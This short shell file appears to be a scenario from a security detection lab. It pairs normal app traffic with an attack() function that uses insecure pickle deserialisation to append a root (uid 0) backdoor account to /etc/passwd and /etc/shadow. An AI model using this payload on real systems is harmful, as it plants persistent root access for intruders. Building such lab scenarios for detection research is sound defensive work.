# Insecure deserialisation in the app (see app-deserialize-exfil), the code making an account for the attacker: a
# line with uid 0 appended to /etc/passwd and one with a password hash to /etc/shadow, from the app's own process
# (T1136.001, T1098) — a root login for whoever reaches the container's SSH, su or a later image built from it. No
# shell, no program, no connection.
IMAGE=app
normal() { app_traffic "$WEB_PORT" 60; }
attack() {
  app_unpickle "$WEB_PORT" "with open('/etc/passwd', 'a') as f:
    f.write('sysupd:x:0:0:system update:/root:/bin/sh\n')
with open('/etc/shadow', 'a') as f:
    f.write('sysupd:\$6\$lab\$Vb0dQ3x5cRkq1ZfXW8aJkz0lq5oWc3y2H9m7c1r0e8Q:19000:0:99999:7:::\n')"
}
